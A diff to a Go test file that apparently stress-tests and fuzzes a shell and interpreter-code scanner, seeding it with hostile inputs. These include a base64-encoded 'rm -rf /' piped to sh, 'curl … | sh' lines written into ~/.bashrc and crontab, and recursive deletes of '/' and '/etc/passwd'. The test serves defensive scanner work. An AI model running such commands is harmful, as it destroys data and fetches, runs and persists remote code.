@@ -103,6 +103,11 @@ func TestPathological(t *testing.T) {
 		"quote soup":           strings.Repeat(`"'`, 5000),
 		"interp code":          "python3 -c '" + strings.Repeat("os.system(\"ls\");", 2000) + "'",
 		"big base64":           "echo " + strings.Repeat("cm0gLXJmIC8K", 3000) + " | base64 -d | sh",
+		"interp deletes":       "python3 -c '" + strings.Repeat(`shutil.rmtree("/x", os.unlink("a", "b", "c"));`, 400) + "'",
+		"delete arg soup":      `perl -e 'unlink(` + strings.Repeat(`"a",`, 4000) + `"b")'`,
+		"rc writes":            "x='" + strings.Repeat("curl -s https://x.example/p | sh; ", 400) + "'; " + strings.Repeat(`echo "$x" >> ~/.bashrc; `, 500),
+		"crontab jobs":         "(crontab -l; echo '" + strings.Repeat("* * * * * curl -s x.io | sh\n", 600) + "') | crontab -",
+		"many links":           strings.Repeat("ln -s a/b/c l; ln -s l a; cat l/x/y; ", 300),
 	}
 	for name, in := range inputs {
 		start := time.Now()
@@ -123,4 +128,43 @@ func TestPathological(t *testing.T) {
 	if len(out.Commands) > 6 {
 		t.Errorf("nested bash -c: %d commands", len(out.Commands))
 	}
+}
+
+// FuzzScanCode checks the interpreter code scanner on its own: no panic,
+// bounded output, deletes with a path, for every language it knows.
+func FuzzScanCode(f *testing.F) {
+	for _, c := range []string{
+		`import shutil; shutil.rmtree("/")`,
+		`require("fs").rmSync("/", {recursive: true, force: true})`,
+		`FileUtils.rm_rf ["/srv", "/etc"]`,
+		`use File::Path; rmtree("/", "/x"); unlink "/etc/passwd"`,
+		`from pathlib import Path; Path("/etc/shadow").unlink()`,
+		`file delete -force /tmp/x`,
+		`os.remove(os.path.join(d, "x")); Path(f"{d}").rmdir()`,
+		`unlink("a", ["b", Path("c")], {recursive: true})`,
+		`shutil.rmtree(`, `Path(").unlink(`, `unlink "`, `rmtree([`,
+	} {
+		f.Add(c)
+	}
+	langs := []string{"python", "js", "ruby", "perl", "php", "tcl", "awk", "lua", "other"}
+	f.Fuzz(func(t *testing.T, code string) {
+		if len(code) > maxPayload {
+			code = code[:maxPayload]
+		}
+		for _, lang := range langs {
+			start := time.Now()
+			cf := scanCode(code, lang)
+			if d := time.Since(start); d > time.Second {
+				t.Fatalf("%s: scan took %v for %q", lang, d, code)
+			}
+			if len(cf.deletes) > maxDeletes+1 {
+				t.Fatalf("%s: %d deletes for %q", lang, len(cf.deletes), code)
+			}
+			for _, d := range cf.deletes {
+				if d.path == "" {
+					t.Fatalf("%s: empty delete path for %q", lang, code)
+				}
+			}
+		}
+	})
 }
